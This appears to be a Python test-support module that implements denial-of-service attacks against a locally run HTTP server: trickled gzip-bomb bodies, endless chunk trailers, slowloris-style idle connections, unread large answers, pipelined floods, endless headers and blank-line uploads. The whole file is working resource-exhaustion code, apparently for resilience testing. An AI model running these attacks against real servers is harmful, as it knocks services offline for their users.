"""Attacks over HTTP, as peers without a key, or with one that may only read, can make them."""

from __future__ import annotations

import socket
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from urllib.parse import urlsplit

from support.attacks import Attack

STRANGER = "127.0.0.2"
"""Where strangers come from; tenants come from 127.0.0.1."""
_GZIP = 16 + zlib.MAX_WBITS
LARGEST = 16 * 1024 * 1024
LARGE_ANSWER = "/api/lessons?limit=100"
"""Of a tenant that has a hundred lessons of the largest size: six megabytes."""
_NOTHING = b"\x00\x00\x00\xff\xff"
"""What unpacks to nothing: packed bytes come, and the body grows no further."""
_TRICKLE_S = 1.0
_PATIENCE_S = 10.0


def connected(address: str, source: str = STRANGER, receive_bytes: int = 0) -> socket.socket:
    """Return a connection to a server, from an address of this machine's."""
    host = urlsplit(address)
    peer = socket.socket()
    if receive_bytes:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    peer.settimeout(_PATIENCE_S)
    peer.bind((source, 0))
    peer.connect((host.hostname or "", host.port or 0))
    return peer


def head(verb: str, path: str, *more: str) -> bytes:
    """Return the head of a request."""
    return "\r\n".join([f"{verb} {path} HTTP/1.1", "host: localhost", *more, "", ""]).encode()


def unfinished_bodies(address: str, path: str, kind: str, key: str, peers: int = 4) -> Attack:
    """Send bodies that unpack to sixteen megabytes and never end, a few bytes now and then.

    Args:
        address: the server.
        path: where to.
        kind: the content type.
        key: what is sent as a key, which is none.
        peers: how many at once.
    """
    start = head(
        "POST", path, f"authorization: Bearer {key}", f"content-type: {kind}",
        "content-encoding: gzip", "transfer-encoding: chunked",
    )  # fmt: skip
    packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
    body = packer.compress(b" " * (LARGEST - 10)) + packer.flush(zlib.Z_SYNC_FLUSH)
    first = start + _chunk(body)

    return _many(address, peers, first, lambda: _again(_chunk(_NOTHING)))


def endless_trailers(address: str, peers: int = 2) -> Attack:
    """Send what follows a body in chunks, without an end."""
    first = head(
        "POST", "/api/lessons", "content-type: application/json", "transfer-encoding: chunked"
    )
    lines = b"".join(b"x-%d: %s\r\n" % (number, b"y" * 50) for number in range(1_000))
    return _many(address, peers, first + b"2\r\n{}\r\n0\r\n", lambda: _again(lines), pause_s=0)


def idle_connections(address: str, peers: int = 2_100) -> Attack:
    """Open connections and say nothing; open others where they are closed."""

    def attack(over: threading.Event) -> None:
        with ExitStack() as opened:
            kept: list[socket.socket] = []
            while not over.is_set():
                kept = [peer for peer in kept if _is_open(peer)]
                with suppress(OSError):
                    while len(kept) < peers and not over.is_set():
                        kept.append(opened.enter_context(connected(address)))
                over.wait(_TRICKLE_S)

    return attack


def unread_answers(address: str, secret: str, peers: int = 128) -> Attack:
    """Ask for large answers again and again, and read none of them."""
    asked = head("GET", LARGE_ANSWER, f"authorization: Bearer {secret}")
    return _many(address, peers, asked, lambda: _again(asked), pause_s=0.1, receive_bytes=4_096)


def pipelined_requests(address: str, secret: str, peers: int = 32) -> Attack:
    """Send very many requests at once behind one whose answer does not end."""
    first = head("GET", "/api/stream", f"authorization: Bearer {secret}")
    more = head("GET", "/api/health") * 5_000
    return _many(address, peers, first, lambda: _again(more), pause_s=0.1)


def many_headers(address: str, peers: int = 500) -> Attack:
    """Send heads of very many headers that do not end."""
    lines = b"".join(b"a:\r\n" for _ in range(15_000))
    first = b"GET / HTTP/1.1\r\n" + lines
    return _many(address, peers, first, lambda: _again(b"a:\r\n"))


def blank_lines(address: str, secret: str, peers: int = 2) -> Attack:
    """Upload nothing but the ends of lines."""
    first = head(
        "POST", "/api/imports/events", f"authorization: Bearer {secret}",
        "content-type: application/x-ndjson", "transfer-encoding: chunked",
    )  # fmt: skip
    return _many(address, peers, first, lambda: _again(_chunk(b"\n" * 1_000_000)), pause_s=0)


def _many(
    address: str,
    peers: int,
    first: bytes,
    then: Callable[[], Iterator[bytes]],
    *,
    pause_s: float = _TRICKLE_S,
    receive_bytes: int = 0,
) -> Attack:
    """Say something on several connections, then more; connect again where one is closed."""

    def attack(over: threading.Event) -> None:
        opened: list[tuple[socket.socket, Iterator[bytes]]] = []
        try:
            while not over.is_set():
                while len(opened) < peers and not over.is_set():
                    with suppress(OSError):
                        peer = connected(address, receive_bytes=receive_bytes)
                        peer.sendall(first)
                        peer.settimeout(0.1)
                        opened.append((peer, then()))
                for one in list(opened):
                    if not _sends(*one):
                        one[0].close()
                        opened.remove(one)
                over.wait(pause_s)
        finally:
            for peer, _ in opened:
                peer.close()

    return attack


def _sends(peer: socket.socket, parts: Iterator[bytes]) -> bool:
    try:
        peer.sendall(next(parts))
    except TimeoutError:  # It takes no more now.
        return True
    except OSError:
        return False
    return True


def _is_open(peer: socket.socket) -> bool:
    peer.setblocking(False)
    try:
        return peer.recv(1_000) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def _again(part: bytes) -> Iterator[bytes]:
    while True:
        yield part


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)
